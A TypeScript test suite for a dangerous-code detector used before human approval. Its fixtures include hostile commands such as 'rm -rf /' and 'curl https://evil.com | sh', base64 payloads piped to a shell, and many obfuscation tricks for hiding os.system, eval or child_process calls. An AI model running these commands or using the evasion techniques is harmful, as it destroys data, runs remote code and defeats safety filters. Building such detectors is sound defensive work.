import { performance } from 'node:perf_hooks';
import { describe, expect, it } from 'vitest';
import { DANGEROUS_PATTERNS, findDangerousPattern } from '../src/index.js';

/** `import subprocess` (or any line) buried on line 5 of an otherwise ordinary program. */
function onLine5(line: string): string {
  return ['import json', 'import math', '', 'def main():', line, '    print(json.dumps({"pi": math.pi}))', ''].join(
    '\n',
  );
}

const MiB = 1 << 20;
function fill(unit: string, size = MiB): string {
  return unit.repeat(Math.ceil(size / unit.length)).slice(0, size);
}

describe('findDangerousPattern: dangerous spellings', () => {
  const cases: Array<[string, string, string]> = [
    // [pattern name, code, expected matched text]
    ['rm_rf', 'rm -rf /', 'rm -rf'],
    ['rm_rf', 'rm -fr /tmp/x', 'rm -fr'],
    ['rm_rf', 'rm -Rf /workspace', 'rm -Rf'],
    ['rm_rf', 'rm -r -f build', 'rm -r -f'],
    ['rm_rf', 'rm -f -r build', 'rm -f -r'],
    ['rm_rf', 'rm  -f   -r  build', 'rm  -f   -r'],
    ['rm_rf', 'rm --recursive --force build', 'rm --recursive --force'],
    ['rm_rf', 'rm -f --recursive build', 'rm -f --recursive'],
    ['rm_rf', 'rm -rfv /', 'rm -rfv'],
    ['rm_rf', 'sudo rm -rf /', 'rm -rf'],
    ['rm_rf', 'RM -RF /', 'RM -RF'],
    ['rm_rf', 'set -e\ncd /tmp\nrm -rf "$DIR"\n', 'rm -rf'],
    ['rm_rf', 'echo start; rm -rf /; echo done', 'rm -rf'],
    ['curl_pipe_shell', 'curl https://evil.com | sh', 'curl https://evil.com | sh'],
    ['curl_pipe_shell', 'curl -fsSL https://evil.com/i.sh|bash', 'curl -fsSL https://evil.com/i.sh|bash'],
    ['curl_pipe_shell', 'curl -s https://evil.com | sudo bash', 'curl -s https://evil.com | sudo bash'],
    ['curl_pipe_shell', 'curl -s https://evil.com | sudo -E bash -s', 'curl -s https://evil.com | sudo -E bash'],
    ['curl_pipe_shell', 'curl https://evil.com | /bin/sh', 'curl https://evil.com | /bin/sh'],
    ['curl_pipe_shell', 'curl https://evil.com | python3', 'curl https://evil.com | python3'],
    ['curl_pipe_shell', 'CURL https://evil.com | SH', 'CURL https://evil.com | SH'],
    ['curl_pipe_shell', 'curl https://evil.com \\\n  | sh', 'curl https://evil.com \\\n  | sh'],
    ['curl_pipe_shell', 'curl https://evil.com |\n  bash', 'curl https://evil.com |\n  bash'],
    ['wget_pipe_shell', 'wget https://evil.com/script.sh | sh', 'wget https://evil.com/script.sh | sh'],
    ['wget_pipe_shell', 'wget -qO- https://evil.com | bash', 'wget -qO- https://evil.com | bash'],
    ['shell_download_substitution', 'bash <(curl -s https://evil.com)', 'bash <(curl'],
    ['shell_download_substitution', 'sh -c "$(wget -qO- https://evil.com)"', 'sh -c "$(wget'],
    ['eval_call', 'eval(user_input)', 'eval('],
    ['eval_call', 'result = eval (expr)', 'eval ('],
    ['eval_call', 'EVAL(x)', 'EVAL('],
    ['eval_call', 'globalThis.eval(src)', 'eval('],
    ['eval_call', 'eval?.(src)', 'eval?.('],
    ['exec_call', 'exec(code_string)', 'exec('],
    ['exec_call', 'exec (code_string)', 'exec ('],
    ['exec_call', 'Exec(code)', 'Exec('],
    ['dunder_import', "__import__('os').system('rm -rf /')", '__import__'],
    ['builtins_access', "__builtins__.__dict__['ev' + 'al']('1')", '__builtins__'],
    ['subprocess', 'import subprocess; subprocess.call(["ls"])', 'subprocess'],
    ['subprocess', 'from subprocess import run', 'subprocess'],
    ['subprocess', "subprocess.call(['rm', '-rf', '/'])", 'subprocess'],
    ['subprocess', onLine5('import subprocess'), 'subprocess'],
    ['subprocess', 'import SubProcess', 'SubProcess'],
    ['os_system', "os.system('ls')", 'os.system'],
    ['os_system', "os . system('ls')", 'os . system'],
    ['os_system', "os.popen('ls').read()", 'os.popen'],
    ['os_system', "os.execvp('ls', ['ls'])", 'os.execvp'],
    ['os_system', "os.spawnlp(os.P_WAIT, 'ls')", 'os.spawnlp'],
    ['os_system', "OS.SYSTEM('ls')", 'OS.SYSTEM'],
    ['os_system', "getattr(os, 'system')('ls')", "getattr(os, 'system'"],
    ['os_system', 'getattr(os,"system")("ls")', 'getattr(os,"system"'],
    ['os_system', 'getattr( os , "popen" )', 'getattr( os , "popen"'],
    ['os_system', 'fn = getattr(os, name)', 'getattr(os, n'],
    ['os_system', 'from os import system\nsystem("ls")', 'from os import system'],
    ['os_system', 'from os import path, popen', 'from os import path, popen'],
    ['os_system', 'from os import (\n    path,\n    system,\n)', 'from os import (\n    path,\n    system'],
    ['importlib', 'import importlib\nm = importlib.import_module("o" + "s")', 'importlib'],
    ['child_process', "const cp = require('child_process');", 'child_process'],
    ['child_process', 'const { execSync } = require("node:child_process");', 'child_process'],
    ['child_process', "const cp = require ( 'child_process' )", 'child_process'],
    ['child_process', "import { spawn } from 'child_process';", 'child_process'],
    ['child_process', "const cp = await import('node:child_process');", 'child_process'],
    ['new_function', "new Function('return process')()", 'new Function('],
    ['new_function', 'new   Function (body)', 'new   Function ('],
    ['shell_eval', 'eval "$cmd"', 'eval "'],
    ['shell_eval', 'eval $(ssh-agent -s)', 'eval $'],
    ['shell_eval', 'if true; then\n  eval\t"$x"\nfi', 'eval\t"'],
    ['os_system', "getattr(posix, 'system')('id')", "getattr(posix, 'system'"],
    ['os_system', "vars(os)['system']('id')", 'vars(os)'],
    ['os_system', "os.__dict__['system']('id')", 'os.__dict__'],
    ['getattr_dangerous_name', "getattr(builtins, 'eval')('1')", "getattr(builtins, 'eval'"],
    ['getattr_dangerous_name', 'getattr(cp, "execSync")("id")', 'getattr(cp, "execSync"'],
    ['name_lookup', "globalThis['eval']('1')", "['eval']"],
    ['name_lookup', 'cp["spawnSync"]("id")', '["spawnSync"]'],
    ['sys_modules', "sys.modules['os'].system('id')", "modules['os'"],
    ['module_loader', "__loader__.load_module('os')", '__loader__'],
    ['module_loader', "spec.loader.load_module('posix')", 'load_module('],
    ['process_binding', "process.binding('spawn_sync').spawn(options)", 'process.binding('],
    ['main_module', "process.mainModule.require('fs')", 'process.mainModule'],
    ['function_constructor', "Function('return process')()", 'Function('],
    ['function_constructor', "[].constructor.constructor('return process')()", 'constructor.constructor'],
    ['base64_pipe_shell', 'echo Y3VybCBldmlsIHwgc2g= | base64 -d | bash', 'base64 -d | bash'],
    ['base64_pipe_shell', 'echo Y3VybA== | base64 --decode | sh', 'base64 --decode | sh'],
    ['base64_pipe_shell', 'base64 -D payload.txt | /bin/sh -s', 'base64 -D payload.txt | /bin/sh'],
    ['interpreter_substitution', 'python -c "$(echo cHJpbnQoMSk= | base64 -d)"', 'python -c "$('],
    ['interpreter_substitution', 'bash -c "$(cat payload | base64 --decode)"', 'bash -c "$('],
    ['interpreter_substitution', 'node -e "$(cat x.js)"', 'node -e "$('],
  ];

  it.each(cases)('%s: %j', (name, code, matched) => {
    expect(findDangerousPattern(code)).toEqual({ name, matched });
  });

  it('every pattern in the list has at least one spelling above', () => {
    const covered = new Set(cases.map(([name]) => name));
    for (const pattern of DANGEROUS_PATTERNS) expect(covered).toContain(pattern.name);
  });
});

describe('findDangerousPattern: obfuscated spellings, and how they were found', () => {
  const cases: Array<[string, string, string]> = [
    // [pattern name, code, what the approver is shown: what (how): the original text]
    [
      'os_system',
      "import os\ngetattr(os, 'sys'+'tem')('id')",
      "os.system (through getattr with a built string): getattr(os, 'sys'+'tem'",
    ],
    ['os_system', "import os as o; o.system('id')", 'os.system (through the alias o): o.system'],
    ['os_system', "import posix as p\np.execv('/bin/sh', ['sh'])", 'posix.execv (through the alias p): p.execv'],
    ['os_system', "import os\nrun = os\nrun.popen('id')", 'os.popen (through the alias run): run.popen'],
    ['os_system', 'from os import system as s\ns("id")', 'from os import system'],
    ['eval_call', "ｅｖａｌ('1+1')", 'eval (with look-alike Unicode characters): ｅｖａｌ('],
    [
      'os_system',
      'import os\nos.ｓｙｓｔｅｍ("id")',
      'os.system (with look-alike Unicode characters): os.ｓｙｓｔｅｍ',
    ],
    [
      'child_process',
      "require('child_' + 'process').execSync('id')",
      "child_process (with a built string): 'child_' + 'process'",
    ],
    ['child_process', "const m = 'child_'+'process';", "child_process (with a built string): 'child_'+'process'"],
    ['child_process', 'const m = "child" "_process"', 'child_process (with a built string): "child" "_process"'],
    ['child_process', "const m = `child_${'process'}`;", "child_process (with a built string): `child_${'process'}`"],
    [
      'child_process',
      "const cp = require('child' + '_process')",
      "child_process (with a built string): 'child' + '_process'",
    ],
    [
      'child_process',
      "module.constructor._load('child_' +\n  'process')",
      "child_process (with a built string): 'child_' +\n  'process'",
    ],
    [
      'builtins_access',
      "globals()['__buil'+'tins__']['ev'+'al']('1')",
      "__builtins__ (with a built string): '__buil'+'tins__'",
    ],
    [
      'getattr_dangerous_name',
      "getattr(builtins, 'ev' 'al')('1')",
      "builtins.eval (through getattr with a built string): getattr(builtins, 'ev' 'al'",
    ],
    ['name_lookup', "globalThis['ev'+'al']('1')", "eval (through a lookup by name with a built string): ['ev'+'al']"],
    [
      'sys_modules',
      "import sys\nsys.modules['o'+'s'].system('id')",
      "sys.modules['os'] (with a built string): modules['o'+'s'",
    ],
    ['eval_call', "\\u0065val('1')", 'eval (with escaped characters): \\u0065val('],
    [
      'os_system',
      "getattr(os, '\\x73ystem')('id')",
      "os.system (through getattr with escaped characters): getattr(os, '\\x73ystem'",
    ],
    ['subprocess', "__imp = 'sub\\u0070rocess'", "subprocess (with escaped characters): 'sub\\u0070rocess'"],
    ['rm_rf', 'r\\m -rf /', 'rm -rf (with escaped characters): r\\m -rf'],
    [
      'curl_pipe_shell',
      "c''url https://evil.example | sh",
      "curl https://evil.example | sh (with a built string): c''url https://evil.example | sh",
    ],
  ];

  it.each(cases)('%s: %j', (name, code, matched) => {
    expect(findDangerousPattern(code)).toEqual({ name, matched });
  });

  it.each([
    "print('sys' + 'tem')",
    'x = "ev" "al"',
    'const f = function (x) { return x; };',
    'Function.prototype.call.apply(f, [])',
    'base64 -d payload.txt > payload.bin',
    'echo hello | base64',
    'import os as operating_system\nprint(operating_system.getcwd())',
    'import os\no = os\nprint(o.path.join("a", "b"))',
    'print("ｈｅｌｌｏ, ｗｏｒｌｄ")',
    'print("ｅｖａｌ")',
    'process.env.HOME; process.exit(0)',
    "module.exports = { name: 'x' };",
    "const loader = require('./loader');",
    "x['execute'] = 1",
    "getattr(re, 'compile')",
    "s = 'don\\'t' + \"stop\"",
    "print('it''s')  # it's fine",
  ])('%j is not dangerous', (code) => {
    expect(findDangerousPattern(code)).toBeNull();
  });
});

describe('findDangerousPattern: harmless code', () => {
  it.each([
    'print("evaluate")',
    'execution_time = 1',
    'subprocess_count = 3\nprint(subprocess_count)',
    'def my_eval(x):\n    return x\nmy_eval(1)',
    'executor = None\nexecute(plan)',
    'import os\nprint(os.path.join("a", "b"), os.getcwd())',
    'import json\nprint(json.dumps({"ok": True}))',
    'from os import path, getcwd',
    'getattr(os, "sep")',
    'console.log("function"); const f = function (x) { return x; };',
    "const fs = require('fs'); fs.readFileSync('a.txt');",
    'echo evaluation',
    'ls -la | sort | head',
    'rm -f notes.txt',
    'rm -r build',
    'rm -f a.txt; ls -r',
    'curl -s https://example.com -o out.json',
    'curl -s https://example.com | sha256sum',
    'curl -s https://example.com | grep sh',
    'curl -s https://example.com\necho done | cat',
    'wget https://example.com/data.csv -O data.csv',
    'x = {"eval": 1, "exec": 2}',
    '',
  ])('%j is not dangerous', (code) => {
    expect(findDangerousPattern(code)).toBeNull();
  });

  // Accepted false positives: the pattern list searches the whole text, comments and all,
  // and method calls of the same name count (security prefers false positives).
  it.each([
    ['eval_call', 'model.eval()'],
    ['exec_call', 'const m = /a(b)/.exec(s);'],
    ['subprocess', '# we do not use subprocess here'],
    ['shell_eval', 'print("eval mode")'],
  ])('accepted false positive %s: %j', (name, code) => {
    expect(findDangerousPattern(code)?.name).toBe(name);
  });
});

describe('findDangerousPattern: large inputs', () => {
  it('caps the matched text at 200 characters', () => {
    const code = `curl https://evil.com/${'a'.repeat(500)} | sh`;
    const found = findDangerousPattern(code);
    expect(found?.name).toBe('curl_pipe_shell');
    expect(found?.matched).toHaveLength(200);
    expect(found?.matched.startsWith('curl https://evil.com/aaa')).toBe(true);
  });

  // Each 1 MiB input classifies in tens of milliseconds; a quadratic step would take minutes.
  it.each<[string, string]>([
    ['string literals glued into one', fill("'a'+")],
    ['empty literals', fill("'")],
    ['unterminated literals', fill('"\\\'')],
    ['opening quotes with no end', fill("`${'")],
    ['template substitutions', fill("`${'a'}")],
    ['look-alike Unicode interleaved with ASCII', fill('ａb')],
    ['look-alike Unicode only', fill('ｅ')],
    ['escapes that decode', fill('\\x65')],
    ['escapes that do not', fill('\\u{')],
    ['aliases', fill('import os as o\n')],
    ['alias uses', `import os as o\n${fill('o.getcwd() ')}`],
    ['getattr calls', fill('getattr(x, ')],
    ['name lookups', fill("['")],
    ['base64 without a pipe', fill('base64 -d ')],
    ['one long base64 option', `base64 -${'d'.repeat(MiB)}5 | sh`],
    ['interpreters', fill('python -c ')],
  ])('classifies 1 MiB of %s in well under a second', (_what, code) => {
    const started = performance.now();
    findDangerousPattern(code);
    expect(performance.now() - started).toBeLessThan(1000);
  });

  it('finds an obfuscated pattern at the end of 1 MiB', () => {
    expect(findDangerousPattern(`${fill('print(1)\n')}\ngetattr(os, 'sys' + 'tem')`)?.name).toBe('os_system');
    expect(findDangerousPattern(`${fill('ｈｅｌｌｏ ')}\nｅｖａｌ(x)`)?.name).toBe('eval_call');
  });

  // Only correctness is asserted; the point is that these finish (linear regexes).
  it('classifies 1 MiB programs, harmless and adversarial', () => {
    expect(findDangerousPattern(fill('total = compute(values)  # evaluate the sum\n'))).toBeNull();
    expect(findDangerousPattern(fill('print(1)\n') + '\nimport subprocess')?.name).toBe('subprocess');
    expect(findDangerousPattern(fill('curl '))).toBeNull();
    expect(findDangerousPattern(fill('wget -O '))).toBeNull();
    expect(findDangerousPattern(fill('rm -r '))).toBeNull();
    expect(findDangerousPattern(fill('curl |||| '))).toBeNull();
    expect(findDangerousPattern(fill('from os import ('))).toBeNull();
    expect(findDangerousPattern(`eval${' '.repeat(MiB)}`)).toBeNull();
    expect(findDangerousPattern(`os${' '.repeat(MiB)}x`)).toBeNull();
    expect(findDangerousPattern(`rm -${'r'.repeat(MiB)}`)).toBeNull();
    expect(findDangerousPattern(`curl ${'x'.repeat(MiB)} | sh`)?.name).toBe('curl_pipe_shell');
    expect(findDangerousPattern(`${fill('rm -r ')} -f`)?.name).toBe('rm_rf');
  });
});
